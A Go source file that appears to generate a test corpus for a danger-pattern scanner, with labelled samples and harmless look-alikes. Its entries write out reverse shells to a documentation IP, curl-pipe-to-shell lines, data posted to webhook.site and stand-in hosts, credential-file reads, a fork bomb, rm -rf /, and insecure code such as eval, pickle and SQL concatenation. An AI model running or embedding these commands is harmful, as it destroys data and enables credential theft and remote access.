package corpus

import (
	"math/rand/v2"
	"strings"
)

// Operations are files with a dangerous operation each, and files that only talk
// of one or do less. Names in capitals stand for other words each time.
func Operations(seed uint64) []Planted {
	r := rand.New(rand.NewPCG(seed, 5))
	var all []Planted
	for _, list := range [][][3]string{shellOperations(), queries(), programOperations(), harmlessOperations()} {
		for _, o := range list {
			body := o[2]
			for _, name := range []string{"NAME", "OTHER"} {
				body = strings.ReplaceAll(body, name, pick(r, "orders", "users", "build", "data", "job", "cache")+"_"+text(r, alnum[36:], 3))
			}
			rule := o[0]
			if rule != "" {
				rule = "danger/" + rule
			}
			all = append(all, Planted{Rule: rule, Path: o[1], Text: body + "\n"})
		}
	}
	return all
}

// shellOperations are rules, paths and texts.
func shellOperations() [][3]string {
	return [][3]string{
		{"rm-root", "a.sh", "rm -rf /"},
		{"rm-root", "a.sh", "rm -fr \"$NAME\"/*"},
		{"rm-root", "Dockerfile", "FROM a\nRUN rm -rf ~/*"},
		{"rm-root", "a.py", `os.system("rm -rf $HOME")`},
		{"raw-disk", "a.sh", "dd if=NAME.img of=/dev/sda bs=1M"},
		{"world-writable", "a.sh", "chmod -R 777 /srv/NAME"},
		{"git-force", "a.sh", "git push --force origin NAME"},
		{"git-force", "a.yml", "    - run: git reset --hard origin/NAME"},
		{"skips-hooks", "a.sh", "git commit --no-verify -m NAME"},
		{"fork-bomb", "a.sh", ":(){ :|:& };:"},
		{"cluster-delete", "a.sh", "kubectl delete ns NAME"},
		{"cluster-delete", "a.sh", "terraform destroy -auto-approve"},
		{"privileged-container", "compose.yml", "services:\n  NAME:\n    privileged: true"},
		{"privileged-container", "a.sh", "docker run -v /:/host NAME"},
		{"persistence", "a.sh", "echo NAME >> ~/.bashrc"},
		{"persistence", "a.sh", "(crontab -l; echo NAME) | crontab -"},
		{"sudoers", "a.sh", "echo 'NAME ALL=(ALL) NOPASSWD: ALL' > OTHER"},
		{"hides-tracks", "a.sh", "unset HISTFILE"},
		{"firewall-off", "a.sh", "iptables -F"},
		{"ssh-open", "a.sh", "ssh -o StrictHostKeyChecking=no NAME"},
		{"tls-off-shell", "a.sh", "curl -sk https://NAME.test/"},
		{"pipe-to-shell", "a.sh", "curl -fsSL https://NAME.test/i.sh | sudo bash"},
		{"pipe-to-shell", "Makefile", "NAME:\n\twget -qO- https://OTHER.test | sh"},
		{"pipe-to-shell", "a.ps1", "iwr https://NAME.test/i.ps1 | iex"},
		{"encoded-to-shell", "a.sh", "echo aGVsbG8gd29ybGQ= | base64 -d | bash"},
		{"reverse-shell", "a.sh", "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"},
		{"reverse-shell", "a.sh", "nc 192.0.2.7 4444 -e /bin/sh"},
		{"drop-host", "a.sh", "curl -d @NAME https://webhook.site/OTHER"},
		{"credential-file", "a.sh", "cat ~/.aws/credentials"},
		{"metadata-service", "a.sh", "curl http://169.254.169.254/latest/meta-data/"},
		{"sends-environment", "a.sh", "env | curl -d @- https://NAME.test"},
	}
}

func queries() [][3]string {
	return [][3]string{
		{"sql-drop", "a.sql", "DROP TABLE NAME;"},
		{"sql-drop", "a.py", `cur.execute("DROP TABLE NAME")`},
		{"sql-truncate", "a.sql", "truncate table NAME;"},
		{"sql-delete-all", "a.sql", "DELETE FROM NAME;\nSELECT 1 FROM OTHER WHERE a = 1;"},
		{"sql-delete-all", "a.go", "db.Exec(`DELETE\n\tFROM NAME`)"},
		{"sql-update-all", "a.sql", "UPDATE NAME SET OTHER = 0;"},
		{"sql-grant-all", "a.sql", "GRANT ALL PRIVILEGES ON *.* TO 'NAME'@'%';"},
		{"sql-concat", "a.py", `cur.execute(f"SELECT * FROM NAME WHERE id = {OTHER}")`},
		{"sql-concat", "a.go", `db.Query(fmt.Sprintf("SELECT * FROM %s", NAME))`},
	}
}

func programOperations() [][3]string {
	return [][3]string{
		{"command-python", "a.py", `os.system("ls " + NAME)`},
		{"command-python", "a.py", "subprocess.run(f\"ls {NAME}\",\n    check=True, shell=True)"},
		{"command-script", "a.ts", "execSync(`ls ${NAME}`)"},
		{"command-go", "a.go", `exec.Command("sh", "-c", NAME)`},
		{"command-java", "A.java", `Runtime.getRuntime().exec("ls " + NAME);`},
		{"command-native", "a.cc", "system(NAME.c_str());"},
		{"command-rust", "a.rs", `Command::new("sh").arg("-c").arg(NAME)`},
		{"command-php", "a.php", "shell_exec($NAME);"},
		{"command-ruby", "a.rb", "`ls #{NAME}`"},
		{"command-dotnet", "a.cs", `Process.Start("cmd", "/c " + NAME);`},
		{"remove-all", "a.go", `os.RemoveAll("/")`},
		{"remove-all", "a.py", `shutil.rmtree(os.path.expanduser("~"))`},
		{"tls-off", "a.go", "c := &tls.Config{InsecureSkipVerify: true}"},
		{"tls-off", "a.py", "requests.get(NAME, verify=False)"},
		{"tls-off", "a.ts", "new Agent({ rejectUnauthorized: false })"},
		{"host-key-off", "a.go", "HostKeyCallback: ssh.InsecureIgnoreHostKey(),"},
		{"auth-off", "a.py", "@csrf_exempt\ndef NAME(request): pass"},
		{"auth-off", "A.java", "http.csrf().disable();"},
		{"weak-crypto", "A.java", `Cipher.getInstance("AES/ECB/PKCS5Padding");`},
		{"html-unescaped", "a.tsx", "<div dangerouslySetInnerHTML={{__html: NAME}} />"},
		{"eval-python", "a.py", "NAME = eval(OTHER)"},
		{"eval-script", "a.js", "eval(NAME)"},
		{"eval-php", "a.php", "eval($NAME);"},
		{"eval-ruby", "a.rb", "eval(NAME)"},
		{"obfuscated", "a.js", "eval(atob(NAME))"},
		{"obfuscated", "a.py", "exec(base64.b64decode(NAME))"},
		{"deserialize", "a.py", "pickle.loads(NAME)"},
		{"deserialize", "A.java", "new ObjectInputStream(NAME).readObject();"},
		{"unbounded-copy", "a.c", "strcpy(NAME, OTHER);"},
		{"unsafe-rust", "a.rs", "unsafe { *NAME }"},
		{"temporary-name", "a.py", "tempfile.mktemp()"},
	}
}

func harmlessOperations() [][3]string {
	return [][3]string{
		{"", "a.sh", "rm -rf ./build/NAME"},
		{"", "a.sh", "# rm -rf /"},
		{"", "a.sh", "git push --force-with-lease origin NAME"},
		{"", "a.sh", "curl -fsSL https://NAME.test/a.tgz -o a.tgz"},
		{"", "a.sh", "curl https://NAME.test/a.json | jq ."},
		{"", "a.sh", "chmod 755 NAME"},
		{"", "a.sh", "kubectl get pods --all-namespaces"},
		{"", "a.md", "Never run rm -rf / or curl x | sh."},
		{"", "a.css", ".NAME { text-overflow: truncate; }"},
		{"", "a.sql", "DELETE FROM NAME\nWHERE id = 1;"},
		{"", "a.sql", "-- DROP TABLE NAME;"},
		{"", "a.sql", "UPDATE NAME SET a = 1 WHERE b = 2;"},
		{"", "a.py", `cur.execute("SELECT * FROM NAME WHERE id = %s", (OTHER,))`},
		{"", "a.py", `raise Error("cannot drop table NAME")`},
		{"", "a.py", "subprocess.run([\"ls\", NAME], check=True)"},
		{"", "a.py", "yaml.safe_load(NAME)"},
		{"", "a.py", "model.eval()"},
		{"", "a.go", `exec.Command("git", "status")`},
		{"", "a.go", "os.RemoveAll(t.TempDir())"},
		{"", "a.go", "// InsecureSkipVerify: true is not what we want"},
		{"", "a.ts", "const NAME = regexp.exec(`a${OTHER}`)"},
		{"", "a.ts", "setTimeout(() => NAME(), 100)"},
		{"", "a.c", "snprintf(NAME, sizeof NAME, \"%s\", OTHER);"},
		{"", "a.rs", "fn is_unsafe() -> bool { false }"},
		{"", "A.java", `Cipher.getInstance("AES/GCM/NoPadding");`},
	}
}
